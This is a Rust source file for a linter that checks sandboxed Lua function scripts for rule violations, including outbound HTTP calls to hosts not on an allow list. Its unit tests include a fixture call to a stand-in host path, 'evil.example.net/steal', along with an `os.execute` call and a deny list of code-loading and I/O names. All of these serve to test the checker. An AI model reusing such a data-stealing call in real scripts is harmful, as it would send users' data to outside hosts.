//! `qyl check` and the diagnostics shown on every reload: the QYL2xxx
//! rules of DESIGN §4, in compiler style (`path:line:col: warning[QYL2001]:
//! message`).
//!
//! A file is first loaded for real (in a sandbox, exactly as the server
//! would load it), which catches syntax errors and invalid definitions.
//! The rules that look at code are then checked on the syntax tree from
//! full_moon, a Luau parser. QYL2001 is static on purpose: running `when`
//! without `runtime` would only catch the paths a sample record happens to
//! take, and there is no record at check time; reading the code catches a
//! `runtime` or I/O name on any path, including one captured as an upvalue.
//! QYL2005 reads the literal URLs given to `runtime.http.get/post` (written
//! in the call or in a `local`) and checks their hosts against
//! `[functions] http_allow`, which the call would be refused by.

use std::collections::{BTreeMap, HashMap};
use std::fmt;
use std::path::{Path, PathBuf};
use std::time::Duration;

use full_moon::ast::{self, Expression, Field, FunctionArgs, FunctionBody};
use full_moon::node::Node;
use full_moon::tokenizer::{TokenReference, TokenType};
use full_moon::visitors::Visitor;

use super::http::AllowList;
use super::sandbox::{Limits, Sandbox};
use super::spec::{load_script, FunctionSpec};

/// Above this a handler holds a worker (and its VM) too long; QYL2002.
pub const RECOMMENDED_MAX_TIMEOUT: Duration = Duration::from_secs(60);

const CODES: &[&str] = &["QYL2001", "QYL2002", "QYL2003", "QYL2004", "QYL2005"];

/// Names a trigger must not touch: the runtime, and the I/O and code
/// loading a sandbox does not have (so using them is a bug either way).
const IO_NAMES: &[&str] = &[
    "runtime",
    "io",
    "require",
    "loadstring",
    "load",
    "dofile",
    "loadfile",
    "print",
];
const OS_SAFE: &[&str] = &["clock", "time", "date", "difftime"];

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Severity {
    Error,
    Warning,
    Info,
}

impl Severity {
    pub fn as_str(self) -> &'static str {
        match self {
            Severity::Error => "error",
            Severity::Warning => "warning",
            Severity::Info => "info",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Diagnostic {
    pub path: PathBuf,
    pub line: u32,
    pub col: u32,
    pub severity: Severity,
    /// `QYL2001`…; `None` for load errors and suppression misuse.
    pub code: Option<&'static str>,
    pub message: String,
}

impl fmt::Display for Diagnostic {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}:{}:{}: {}",
            self.path.display(),
            self.line,
            self.col,
            self.severity.as_str()
        )?;
        if let Some(code) = self.code {
            write!(f, "[{code}]")?;
        }
        write!(f, ": {}", self.message)
    }
}

/// The result of checking a directory.
#[derive(Debug, Default)]
pub struct CheckReport {
    pub files: usize,
    pub functions: usize,
    pub diagnostics: Vec<Diagnostic>,
}

impl CheckReport {
    pub fn count(&self, severity: Severity) -> usize {
        self.diagnostics
            .iter()
            .filter(|d| d.severity == severity)
            .count()
    }
}

/// Editors' temp and backup files (vim's `4913` probe and `.swp`, emacs'
/// `~` and `.#` locks) are not scripts, whatever their name ends with.
pub fn is_script_file(path: &Path) -> bool {
    let Some(name) = path.file_name().and_then(|n| n.to_str()) else {
        return false;
    };
    name.ends_with(".lua") && !name.starts_with(".#") && !name.starts_with('.') && name != "4913"
}

/// Checks every script in `dir` (not recursive), in name order, as if
/// `[functions] http_allow` were empty (the default).
pub fn check_dir(dir: &Path) -> std::io::Result<CheckReport> {
    check_dir_with(dir, &AllowList::default())
}

/// [`check_dir`] against the hosts `runtime.http` may call.
pub fn check_dir_with(dir: &Path, http_allow: &AllowList) -> std::io::Result<CheckReport> {
    let mut paths: Vec<PathBuf> = std::fs::read_dir(dir)?
        .filter_map(|e| e.ok())
        .map(|e| e.path())
        .filter(|p| p.is_file() && is_script_file(p))
        .collect();
    paths.sort();
    let mut files = Vec::with_capacity(paths.len());
    let mut unreadable = Vec::new();
    for p in paths {
        match std::fs::read_to_string(&p) {
            Ok(source) => files.push((p, source)),
            // One bad file (not UTF-8, vanished mid-save) is that file's
            // error, not a reason to skip checking the others.
            Err(e) => unreadable.push(Diagnostic {
                path: p,
                line: 1,
                col: 1,
                severity: Severity::Error,
                code: None,
                message: format!("cannot read the script: {e}"),
            }),
        }
    }
    let mut report = check_sources_with(&files, http_allow);
    report.files += unreadable.len();
    report.diagnostics.extend(unreadable);
    report
        .diagnostics
        .sort_by(|a, b| (&a.path, a.line, a.col).cmp(&(&b.path, b.line, b.col)));
    Ok(report)
}

/// Checks a set of scripts that live together (QYL2003 is across them),
/// with nothing allowed for `runtime.http`.
pub fn check_sources(files: &[(PathBuf, String)]) -> CheckReport {
    check_sources_with(files, &AllowList::default())
}

/// [`check_sources`] against the hosts `runtime.http` may call.
pub fn check_sources_with(files: &[(PathBuf, String)], http_allow: &AllowList) -> CheckReport {
    let mut report = CheckReport {
        files: files.len(),
        ..Default::default()
    };
    // name → (path, line) of the first definition, for QYL2003.
    let mut seen: HashMap<String, (PathBuf, u32)> = HashMap::new();
    for (path, source) in files {
        let found = check_file(path, source, http_allow);
        report.functions += found.functions.len();
        let mut diags = found.diagnostics;
        for f in &found.functions {
            match seen.get(&f.spec.name) {
                Some((first_path, first_line)) => {
                    // Not registered: the first definition wins.
                    diags.retain(|(owner, d)| {
                        !(*owner == Some(f.line) && d.code == Some("QYL2004"))
                    });
                    diags.push((
                        Some(f.line),
                        Diagnostic {
                            path: path.clone(),
                            line: f.line,
                            col: f.col,
                            severity: Severity::Error,
                            code: Some("QYL2003"),
                            message: format!(
                                "function name '{}' is not unique: already defined at {}:{}",
                                f.spec.name,
                                first_path.display(),
                                first_line
                            ),
                        },
                    ));
                }
                None => {
                    seen.insert(f.spec.name.clone(), (path.clone(), f.line));
                }
            }
        }
        report.diagnostics.extend(found.suppressions.filter(diags));
    }
    report
        .diagnostics
        .sort_by(|a, b| (&a.path, a.line, a.col).cmp(&(&b.path, b.line, b.col)));
    report
}

struct FoundFunction {
    spec: FunctionSpec,
    line: u32,
    col: u32,
}

struct FileResult {
    functions: Vec<FoundFunction>,
    /// Each with the line of the definition it is about, for suppressions.
    diagnostics: Vec<(Option<u32>, Diagnostic)>,
    suppressions: Suppressions,
}

fn check_file(path: &Path, source: &str, http_allow: &AllowList) -> FileResult {
    let diag = |line: u32, col: u32, severity, code, message: String| Diagnostic {
        path: path.to_path_buf(),
        line,
        col,
        severity,
        code,
        message,
    };
    let mut result = FileResult {
        functions: Vec::new(),
        diagnostics: Vec::new(),
        suppressions: Suppressions::default(),
    };
    let mut sandbox = match Sandbox::new(Limits::default()) {
        Ok(s) => s,
        Err(e) => {
            result
                .diagnostics
                .push((None, diag(1, 1, Severity::Error, None, e.to_string())));
            return result;
        }
    };
    let loaded = match load_script(&mut sandbox, path, source) {
        Ok(l) => l,
        Err(e) => {
            result.diagnostics.push((
                None,
                diag(e.line.unwrap_or(1), 1, Severity::Error, None, e.message),
            ));
            return result;
        }
    };

    let ast = match full_moon::parse(source) {
        Ok(ast) => Some(ast),
        Err(errors) => {
            // Luau accepted the file, so this is full_moon lagging behind
            // the language: say what was not checked rather than guess.
            let first = errors.first().map(|e| e.to_string()).unwrap_or_default();
            result.diagnostics.push((
                None,
                diag(
                    1,
                    1,
                    Severity::Info,
                    None,
                    format!(
                        "QYL2001/QYL2002 not checked: the Luau syntax checker failed ({first})"
                    ),
                ),
            ));
            None
        }
    };
    let mut facts = Facts::default();
    if let Some(ast) = &ast {
        facts.visit_ast(ast);
    }
    let first_code_line = ast.as_ref().and_then(first_code_line).unwrap_or(u32::MAX);
    let (suppressions, suppression_diags) = Suppressions::parse(path, source, first_code_line);

    for f in loaded {
        let spec = f.spec;
        // The line recorded by qyl.fn is the call's; the name is the
        // fallback for plain tables (whose recorded line is the handler's).
        let site = facts
            .definitions
            .iter()
            .find(|d| d.line == spec.line && d.name.as_deref() == Some(spec.name.as_str()))
            .or_else(|| facts.definitions.iter().find(|d| d.line == spec.line))
            .or_else(|| {
                facts
                    .definitions
                    .iter()
                    .find(|d| d.name.as_deref() == Some(spec.name.as_str()))
            });
        let (line, col) = site.map_or((spec.line, 1), |d| (d.line, d.col));
        let mut push = |l: u32, c: u32, sev, code: &'static str, msg: String| {
            result.diagnostics.push((
                Some(line),
                Diagnostic {
                    path: path.to_path_buf(),
                    line: l,
                    col: c,
                    severity: sev,
                    code: Some(code),
                    message: msg,
                },
            ));
        };

        if let Some(site) = site {
            let body = match &site.when {
                Some(WhenSite::Inline(body)) => Some(body.as_ref()),
                Some(WhenSite::Named(name)) => facts.local_functions.get(name),
                None => None,
            };
            if let Some(body) = body {
                for (name, l, c) in io_uses(body) {
                    push(
                        l,
                        c,
                        Severity::Warning,
                        "QYL2001",
                        format!(
                            "trigger `when` of '{}' uses `{name}`: triggers run with a tight deadline and no runtime or I/O; do that in the handler",
                            spec.name
                        ),
                    );
                }
            }
        }
        if spec.timeout > RECOMMENDED_MAX_TIMEOUT {
            let (l, c) = site.and_then(|s| s.timeout_pos).unwrap_or((line, col));
            push(
                l,
                c,
                Severity::Warning,
                "QYL2002",
                format!(
                    "handler timeout of '{}' is {} ms, above the recommended maximum of {} ms",
                    spec.name,
                    spec.timeout.as_millis(),
                    RECOMMENDED_MAX_TIMEOUT.as_millis()
                ),
            );
        }
        push(
            line,
            col,
            Severity::Info,
            "QYL2004",
            format!(
                "function '{}' registered: triggers on {}",
                spec.name,
                spec.trigger.summary()
            ),
        );
        result.functions.push(FoundFunction { spec, line, col });
    }
    for (url, (l, c), whole) in facts.http_urls() {
        let Some(message) = url_problem(&url, whole, http_allow) else {
            continue;
        };
        // Owned by the definition it is written in (the last one above it),
        // so a suppression on that definition covers it.
        let owner = result
            .functions
            .iter()
            .map(|f| f.line)
            .filter(|&fl| fl <= l)
            .max();
        result.diagnostics.push((
            owner,
            diag(l, c, Severity::Warning, Some("QYL2005"), message),
        ));
    }
    result
        .diagnostics
        .extend(suppression_diags.into_iter().map(|d| (None, d)));
    result.suppressions = suppressions;
    result.suppressions.definition_lines = result.functions.iter().map(|f| f.line).collect();
    result
}

fn pos(token: &TokenReference) -> (u32, u32) {
    token.start_position().map_or((1, 1), |p| {
        (
            u32::try_from(p.line()).unwrap_or(u32::MAX),
            u32::try_from(p.character()).unwrap_or(u32::MAX),
        )
    })
}

fn node_pos(node: &impl Node) -> (u32, u32) {
    node.start_position().map_or((1, 1), |p| {
        (
            u32::try_from(p.line()).unwrap_or(u32::MAX),
            u32::try_from(p.character()).unwrap_or(u32::MAX),
        )
    })
}

/// The first line holding a token that is not a comment.
fn first_code_line(ast: &ast::Ast) -> Option<u32> {
    let (line, _) = ast
        .nodes()
        .stmts()
        .next()
        .map(node_pos)
        .or_else(|| ast.nodes().last_stmt().map(node_pos))?;
    Some(line)
}

enum WhenSite {
    Inline(Box<FunctionBody>),
    Named(String),
}

/// One `qyl.fn { … }` call as written.
struct DefinitionSite {
    line: u32,
    col: u32,
    name: Option<String>,
    when: Option<WhenSite>,
    timeout_pos: Option<(u32, u32)>,
}

#[derive(Default)]
struct Facts {
    definitions: Vec<DefinitionSite>,
    /// `local function f` and `local f = function`, for `when = f`.
    local_functions: HashMap<String, FunctionBody>,
    /// `local NAME = "text"` (the last one of each name), for URLs passed
    /// by name.
    local_strings: HashMap<String, (String, (u32, u32))>,
    /// The URL argument of each `….http.get/post(…)` call.
    http_args: Vec<UrlArg>,
}

/// What a `runtime.http` call was given as its URL.
enum UrlArg {
    /// A literal, or the literal start of a `..` concatenation (`false`),
    /// and where.
    Literal(String, (u32, u32), bool),
    /// A local's name, resolved once the whole file has been read.
    Name(String),
}

impl Facts {
    /// The literal URLs `runtime.http` calls are given, with positions.
    fn http_urls(&self) -> Vec<(String, (u32, u32), bool)> {
        self.http_args
            .iter()
            .filter_map(|a| match a {
                UrlArg::Literal(u, p, whole) => Some((u.clone(), *p, *whole)),
                UrlArg::Name(n) => self
                    .local_strings
                    .get(n)
                    .map(|(u, p)| (u.clone(), *p, true)),
            })
            .collect()
    }
}

/// Why a literal URL would be refused, if it would. A concatenation's
/// literal start (`whole` false) counts only when it reaches past the host
/// (`"https://h/" .. path`): before that the host is not known.
fn url_problem(url: &str, whole: bool, allow: &AllowList) -> Option<String> {
    let after_scheme = url.split_once("://").map(|(_, rest)| rest)?;
    if !whole && !after_scheme.contains('/') {
        return None;
    }
    let parsed = reqwest::Url::parse(url).ok()?;
    allow.check(&parsed).err().map(|e| {
        format!(
            "runtime.http call to {}: {e}; the call will fail",
            super::http::origin(&parsed)
        )
    })
}

fn ident(token: &TokenReference) -> Option<&str> {
    match token.token_type() {
        TokenType::Identifier { identifier } => Some(identifier.as_str()),
        _ => None,
    }
}

fn string_literal(e: &Expression) -> Option<String> {
    match e {
        Expression::String(t) => match t.token_type() {
            TokenType::StringLiteral { literal, .. } => Some(literal.to_string()),
            _ => None,
        },
        _ => None,
    }
}

fn field_key(field: &Field) -> Option<(String, &Expression, (u32, u32))> {
    match field {
        Field::NameKey { key, value, .. } => Some((ident(key)?.to_string(), value, pos(key))),
        Field::ExpressionKey {
            key,
            value,
            brackets,
            ..
        } => Some((string_literal(key)?, value, node_pos(brackets))),
        _ => None,
    }
}

fn table_arg(call: &ast::FunctionCall) -> Option<&ast::TableConstructor> {
    let mut suffixes = call.suffixes();
    // qyl.fn { … } or qyl.fn({ … })
    let is_qyl = matches!(call.prefix(), ast::Prefix::Name(t) if ident(t) == Some("qyl"));
    let is_fn = matches!(
        suffixes.next(),
        Some(ast::Suffix::Index(ast::Index::Dot { name, .. })) if ident(name) == Some("fn")
    );
    if !is_qyl || !is_fn {
        return None;
    }
    match suffixes.next() {
        Some(ast::Suffix::Call(ast::Call::AnonymousCall(args))) => match args.as_ref() {
            FunctionArgs::TableConstructor(t) => Some(t),
            FunctionArgs::Parentheses { arguments, .. } => match arguments.iter().next() {
                Some(Expression::TableConstructor(t)) => Some(t),
                _ => None,
            },
            _ => None,
        },
        _ => None,
    }
}

/// The first argument of `x.http.get(…)` / `x.http.post(…)` (also
/// `x.http.get "…"`).
fn http_url_arg(call: &ast::FunctionCall) -> Option<UrlArg> {
    let suffixes: Vec<&ast::Suffix> = call.suffixes().collect();
    let dot = |s: &ast::Suffix| match s {
        ast::Suffix::Index(ast::Index::Dot { name, .. }) => ident(name).map(str::to_string),
        _ => None,
    };
    let i = suffixes.windows(3).position(|w| {
        dot(w[0]).as_deref() == Some("http")
            && matches!(dot(w[1]).as_deref(), Some("get" | "post"))
            && matches!(w[2], ast::Suffix::Call(ast::Call::AnonymousCall(_)))
    })?;
    let ast::Suffix::Call(ast::Call::AnonymousCall(args)) = suffixes[i + 2] else {
        return None;
    };
    let first = match args.as_ref() {
        FunctionArgs::Parentheses { arguments, .. } => arguments.iter().next()?,
        FunctionArgs::String(t) => {
            return match t.token_type() {
                TokenType::StringLiteral { literal, .. } => {
                    Some(UrlArg::Literal(literal.to_string(), pos(t), true))
                }
                _ => None,
            }
        }
        _ => return None,
    };
    url_expression(first)
}

fn url_expression(e: &Expression) -> Option<UrlArg> {
    match e {
        Expression::String(t) => string_literal(e).map(|s| UrlArg::Literal(s, pos(t), true)),
        Expression::Var(ast::Var::Name(n)) => ident(n).map(|n| UrlArg::Name(n.to_string())),
        Expression::BinaryOperator {
            lhs,
            binop: ast::BinOp::TwoDots(_),
            ..
        } => {
            match url_expression(lhs)? {
                UrlArg::Literal(s, p, _) => Some(UrlArg::Literal(s, p, false)),
                // A local's text is whole, but here only its start.
                UrlArg::Name(_) => None,
            }
        }
        Expression::Parentheses { expression, .. } => url_expression(expression),
        _ => None,
    }
}

impl Visitor for Facts {
    fn visit_function_call(&mut self, call: &ast::FunctionCall) {
        if let Some(arg) = http_url_arg(call) {
            self.http_args.push(arg);
        }
        let Some(table) = table_arg(call) else {
            return;
        };
        let (line, col) = node_pos(call);
        let mut site = DefinitionSite {
            line,
            col,
            name: None,
            when: None,
            timeout_pos: None,
        };
        for field in table.fields() {
            let Some((key, value, key_pos)) = field_key(field) else {
                continue;
            };
            match key.as_str() {
                "name" => site.name = string_literal(value),
                "timeout_ms" => site.timeout_pos = Some(key_pos),
                "trigger" => {
                    let Expression::TableConstructor(trigger) = value else {
                        continue;
                    };
                    for tf in trigger.fields() {
                        if let Some((k, v, _)) = field_key(tf) {
                            if k == "when" {
                                site.when = match v {
                                    Expression::Function(f) => {
                                        Some(WhenSite::Inline(Box::new(f.body().clone())))
                                    }
                                    Expression::Var(ast::Var::Name(n)) => {
                                        ident(n).map(|n| WhenSite::Named(n.to_string()))
                                    }
                                    _ => None,
                                };
                            }
                        }
                    }
                }
                _ => {}
            }
        }
        self.definitions.push(site);
    }

    fn visit_local_function(&mut self, f: &ast::LocalFunction) {
        if let Some(name) = ident(f.name()) {
            self.local_functions
                .insert(name.to_string(), f.body().clone());
        }
    }

    fn visit_local_assignment(&mut self, a: &ast::LocalAssignment) {
        for (name, expr) in a.names().iter().zip(a.expressions().iter()) {
            let Some(name) = ident(name) else { continue };
            match expr {
                Expression::Function(f) => {
                    self.local_functions
                        .insert(name.to_string(), f.body().clone());
                }
                Expression::String(t) => {
                    if let Some(text) = string_literal(expr) {
                        self.local_strings.insert(name.to_string(), (text, pos(t)));
                    }
                }
                _ => {}
            }
        }
    }
}

/// `runtime` and I/O names used in a function body, with their positions.
fn io_uses(body: &FunctionBody) -> Vec<(String, u32, u32)> {
    let tokens: Vec<&TokenReference> = body
        .tokens()
        .filter(|t| !matches!(t.token_type(), TokenType::Whitespace { .. }))
        .collect();
    let mut found = Vec::new();
    // `local load = …` inside the body is the user's own variable.
    let mut locals: Vec<&str> = Vec::new();
    for (i, t) in tokens.iter().enumerate() {
        let Some(name) = ident(t) else { continue };
        let after_local = i > 0
            && matches!(tokens[i - 1].token_type(), TokenType::Symbol { symbol }
                if *symbol == full_moon::tokenizer::Symbol::Local);
        if after_local {
            locals.push(name);
            continue;
        }
        if locals.contains(&name) {
            continue;
        }
        // `x.io` or `x:io` is a field, not the global.
        let after_dot = i > 0
            && matches!(tokens[i - 1].token_type(), TokenType::Symbol { symbol }
                if matches!(symbol, full_moon::tokenizer::Symbol::Dot | full_moon::tokenizer::Symbol::Colon));
        if after_dot {
            continue;
        }
        let (l, c) = pos(t);
        if IO_NAMES.contains(&name) {
            found.push((name.to_string(), l, c));
        } else if name == "os" {
            let member = tokens.get(i + 2).and_then(|m| ident(m));
            if let Some(m) = member.filter(|m| !OS_SAFE.contains(m)) {
                found.push((format!("os.{m}"), l, c));
            }
        }
    }
    found
}

/// `--!qyl-suppress CODE[, CODE]: justification` comments of one file.
#[derive(Debug, Default)]
struct Suppressions {
    path: PathBuf,
    whole_file: Vec<String>,
    /// Suppressed codes by the line of the definition they precede.
    by_line: BTreeMap<u32, Vec<String>>,
    definition_lines: Vec<u32>,
}

const SUPPRESS: &str = "--!qyl-suppress";

impl Suppressions {
    fn parse(path: &Path, source: &str, first_code_line: u32) -> (Self, Vec<Diagnostic>) {
        let mut s = Suppressions {
            path: path.to_path_buf(),
            ..Default::default()
        };
        let mut diags = Vec::new();
        for (i, text) in source.lines().enumerate() {
            let line = u32::try_from(i + 1).unwrap_or(u32::MAX);
            let trimmed = text.trim_start();
            let Some(rest) = trimmed.strip_prefix(SUPPRESS) else {
                continue;
            };
            let col = u32::try_from(text.len() - trimmed.len() + 1).unwrap_or(1);
            let warn = |message: String| Diagnostic {
                path: path.to_path_buf(),
                line,
                col,
                severity: Severity::Warning,
                code: None,
                message,
            };
            let (codes, justification) = match rest.split_once(':') {
                Some((c, j)) => (c, j.trim()),
                None => (rest, ""),
            };
            let codes: Vec<String> = codes
                .split(',')
                .map(|c| c.trim().to_ascii_uppercase())
                .filter(|c| !c.is_empty())
                .collect();
            if codes.is_empty() {
                diags.push(warn(format!(
                    "{SUPPRESS} names no diagnostic: write `{SUPPRESS} QYL2001: why`"
                )));
                continue;
            }
            for c in &codes {
                if !CODES.contains(&c.as_str()) {
                    diags.push(warn(format!(
                        "{SUPPRESS}: unknown diagnostic `{c}` (known: {})",
                        CODES.join(", ")
                    )));
                }
            }
            if justification.is_empty() {
                diags.push(warn(format!(
                    "{SUPPRESS} without a justification: add one after a colon, e.g. `{SUPPRESS} {}: why this is fine`",
                    codes.join(", ")
                )));
            }
            if line < first_code_line {
                s.whole_file.extend(codes);
            } else {
                s.by_line.entry(line + 1).or_default().extend(codes);
            }
        }
        (s, diags)
    }

    /// Drops the diagnostics a suppression covers and reports suppressions
    /// that are not above any definition.
    fn filter(&self, diags: Vec<(Option<u32>, Diagnostic)>) -> Vec<Diagnostic> {
        let mut out: Vec<Diagnostic> = Vec::with_capacity(diags.len());
        for line in self.by_line.keys() {
            if !self.definition_lines.contains(line) {
                out.push(Diagnostic {
                    path: self.path.clone(),
                    line: line - 1,
                    col: 1,
                    severity: Severity::Warning,
                    code: None,
                    message: format!(
                        "{SUPPRESS} applies to nothing: put it on the line above a qyl.fn definition, or before any code for the whole file"
                    ),
                });
            }
        }
        for (owner, d) in diags {
            let suppressed = d.code.is_some_and(|code| {
                self.whole_file.iter().any(|c| c == code)
                    || owner
                        .and_then(|l| self.by_line.get(&l))
                        .is_some_and(|codes| codes.iter().any(|c| c == code))
            });
            if !suppressed {
                out.push(d);
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(files: &[(&str, &str)]) -> Vec<String> {
        let files: Vec<(PathBuf, String)> = files
            .iter()
            .map(|(p, s)| (PathBuf::from(p), s.to_string()))
            .collect();
        check_sources(&files)
            .diagnostics
            .iter()
            .map(|d| d.to_string())
            .collect()
    }

    fn with_code<'a>(out: &'a [String], code: &str) -> Vec<&'a String> {
        let tag = format!("[{code}]");
        out.iter().filter(|l| l.contains(&tag)).collect()
    }

    const CLEAN: &str = r#"return qyl.fn {
  name = "clean",
  trigger = { on = "span", where = { status = "ERROR" } },
  handler = function(span, runtime) return runtime end,
}
"#;

    #[test]
    fn a_clean_file_only_gets_the_info() {
        let out = check(&[("s/clean.lua", CLEAN)]);
        assert_eq!(
            out,
            vec!["s/clean.lua:1:8: info[QYL2004]: function 'clean' registered: triggers on span where status = \"ERROR\""]
        );
    }

    #[test]
    fn runtime_and_io_in_when_is_qyl2001() {
        let src = r#"local cache = nil
local function pred(span)
  return os.execute("x") == nil
end
return {
  qyl.fn {
    name = "a",
    trigger = { on = "span", when = function(span)
      local load = span.load
      return runtime.state.get("x") ~= nil and span.io == nil and os.time() > 0 and load
    end },
    handler = function(span, runtime) return 1 end,
  },
  qyl.fn { name = "b", trigger = { on = "log", when = pred }, handler = function() end },
}
"#;
        let out = check(&[("s/io.lua", src)]);
        let w = with_code(&out, "QYL2001");
        assert_eq!(w.len(), 2, "{out:#?}");
        assert!(
            w[0].starts_with(
                "s/io.lua:3:10: warning[QYL2001]: trigger `when` of 'b' uses `os.execute`"
            ),
            "{}",
            w[0]
        );
        assert!(
            w[1].starts_with(
                "s/io.lua:10:14: warning[QYL2001]: trigger `when` of 'a' uses `runtime`"
            ),
            "{}",
            w[1]
        );
    }

    #[test]
    fn long_timeouts_are_qyl2002() {
        let src = "return qyl.fn {\n  name = 't',\n  trigger = { on = 'schedule', every = '1m' },\n  handler = function() end,\n  timeout_ms = 120000,\n}";
        let out = check(&[("s/t.lua", src)]);
        let w = with_code(&out, "QYL2002");
        assert_eq!(w.len(), 1, "{out:#?}");
        assert_eq!(
            w[0],
            "s/t.lua:5:3: warning[QYL2002]: handler timeout of 't' is 120000 ms, above the recommended maximum of 60000 ms"
        );
    }

    #[test]
    fn duplicate_names_across_files_are_qyl2003_errors() {
        let out = check(&[("s/a.lua", CLEAN), ("s/b.lua", CLEAN)]);
        let e = with_code(&out, "QYL2003");
        assert_eq!(
            e,
            vec!["s/b.lua:1:8: error[QYL2003]: function name 'clean' is not unique: already defined at s/a.lua:1"]
        );
    }

    #[test]
    fn duplicate_names_in_one_file_are_qyl2003_errors() {
        let src = "return {\n  qyl.fn { name = 'd', trigger = { on = 'log' }, handler = function() end },\n  qyl.fn { name = 'd', trigger = { on = 'span' }, handler = function() end },\n}";
        let out = check(&[("s/d.lua", src)]);
        assert_eq!(
            out,
            vec![
                "s/d.lua:2:3: info[QYL2004]: function 'd' registered: triggers on every log",
                "s/d.lua:3:3: error[QYL2003]: function name 'd' is not unique: already defined at s/d.lua:2",
            ]
        );
    }

    #[test]
    fn load_errors_are_errors_with_the_line() {
        let out = check(&[("s/bad.lua", "return qyl.fn {\n  name = 'x',\n  trigger = { on = 'span', where = { duraton_ms = 5 } },\n  handler = function() end }")]);
        assert_eq!(out.len(), 1, "{out:#?}");
        assert!(out[0].starts_with("s/bad.lua:1:1: error: qyl.fn \"x\": trigger.where field `duraton_ms`: unknown field"), "{}", out[0]);
        let out = check(&[("s/syntax.lua", "local x = \nreturn")]);
        assert!(out[0].starts_with("s/syntax.lua:2:1: error: "), "{out:#?}");
    }

    #[test]
    fn suppression_on_the_definition_or_the_whole_file() {
        let src = r#"return {
  --!qyl-suppress QYL2002, QYL2004: nightly export takes long
  qyl.fn { name = "a", trigger = { on = "schedule", every = "1h" }, handler = function() end, timeout_ms = 600000 },
  qyl.fn { name = "b", trigger = { on = "schedule", every = "1h" }, handler = function() end, timeout_ms = 600000 },
}
"#;
        let out = check(&[("s/sup.lua", src)]);
        assert_eq!(with_code(&out, "QYL2002").len(), 1, "{out:#?}");
        assert!(with_code(&out, "QYL2002")[0].contains("'b'"));
        assert_eq!(with_code(&out, "QYL2004").len(), 1, "{out:#?}");

        let whole = format!("-- header comment\n--!qyl-suppress QYL2004: quiet please\n\n{CLEAN}");
        let out = check(&[("s/whole.lua", &whole)]);
        assert!(out.is_empty(), "{out:#?}");
    }

    #[test]
    fn suppression_misuse_is_a_warning() {
        let src = format!("--!qyl-suppress QYL2004\n--!qyl-suppress QYL9999: why\n{CLEAN}");
        let out = check(&[("s/m.lua", &src)]);
        assert!(
            out.iter()
                .any(|l| l
                    .starts_with("s/m.lua:1:1: warning: --!qyl-suppress without a justification")),
            "{out:#?}"
        );
        assert!(
            out.iter().any(|l| l.starts_with(
                "s/m.lua:2:1: warning: --!qyl-suppress: unknown diagnostic `QYL9999`"
            )),
            "{out:#?}"
        );
        // Still suppresses: the warning is about the missing reason.
        assert!(with_code(&out, "QYL2004").is_empty(), "{out:#?}");

        let stray = "return qyl.fn {\n  name = 'x',\n  --!qyl-suppress QYL2004: misplaced\n  trigger = { on = 'span' },\n  handler = function() end }";
        let out = check(&[("s/stray.lua", stray)]);
        assert!(out.iter().any(|l| l.contains("s/stray.lua:3:1: warning: --!qyl-suppress applies to nothing")), "{out:#?}");
    }

    #[test]
    fn literal_urls_of_hosts_not_allowed_are_qyl2005() {
        let src = r#"local HOOK = "https://hooks.slack.com/services/T/B/x"
local BASE = "https://api.example.com"
return {
  qyl.fn { name = "a", trigger = { on = "error" }, handler = function(g, runtime)
    runtime.http.post(HOOK, { text = "x" })
    runtime.http.get("https://evil.example.net/steal?x=1")
    runtime.http.get "http://127.0.0.1:9999/ok"
    rt.http.post("https://pd.example.org/" .. g.group_id, {})
    runtime.http.post(BASE .. "/v1", {})
    runtime.http.post(runtime.secret("hook"), {})
    local doc = "https://docs.example.com/not-a-call"
  end },
}
"#;
        let files = vec![(PathBuf::from("s/urls.lua"), src.to_string())];
        let allow = AllowList::parse(&["hooks.slack.com".into(), "127.0.0.1:9999".into()]).unwrap();
        let out: Vec<String> = check_sources_with(&files, &allow)
            .diagnostics
            .iter()
            .map(|d| d.to_string())
            .collect();
        let w = with_code(&out, "QYL2005");
        assert_eq!(w.len(), 2, "{out:#?}");
        assert_eq!(
            w[0],
            "s/urls.lua:6:22: warning[QYL2005]: runtime.http call to https://evil.example.net: host evil.example.net is not in [functions] http_allow of qyl.toml (allowed: hooks.slack.com, 127.0.0.1:9999); the call will fail"
        );
        assert!(
            w[1].starts_with(
                "s/urls.lua:8:18: warning[QYL2005]: runtime.http call to https://pd.example.org: "
            ),
            "{}",
            w[1]
        );
        // With nothing allowed, the local's URL and the loopback one count too.
        let out: Vec<String> = check_sources(&files)
            .diagnostics
            .iter()
            .map(|d| d.to_string())
            .collect();
        let w = with_code(&out, "QYL2005");
        assert_eq!(w.len(), 4, "{out:#?}");
        assert!(
            w[0].starts_with(
                "s/urls.lua:1:14: warning[QYL2005]: runtime.http call to https://hooks.slack.com: "
            ),
            "{}",
            w[0]
        );
        // A suppression on the definition covers its calls.
        let quiet = format!("--!qyl-suppress QYL2005: posted through a proxy\n{src}");
        let files = vec![(PathBuf::from("s/urls.lua"), quiet)];
        let out: Vec<String> = check_sources(&files)
            .diagnostics
            .iter()
            .map(|d| d.to_string())
            .collect();
        assert!(with_code(&out, "QYL2005").is_empty(), "{out:#?}");
    }

    #[test]
    fn editor_temp_files_are_not_scripts() {
        for name in ["a.lua", "alert-high-latency.lua"] {
            assert!(is_script_file(Path::new(name)), "{name}");
        }
        for name in [
            "a.lua.swp",
            ".a.lua.swp",
            "a.lua~",
            ".#a.lua",
            "4913",
            "a.txt",
            ".hidden.lua",
        ] {
            assert!(!is_script_file(Path::new(name)), "{name}");
        }
    }
}
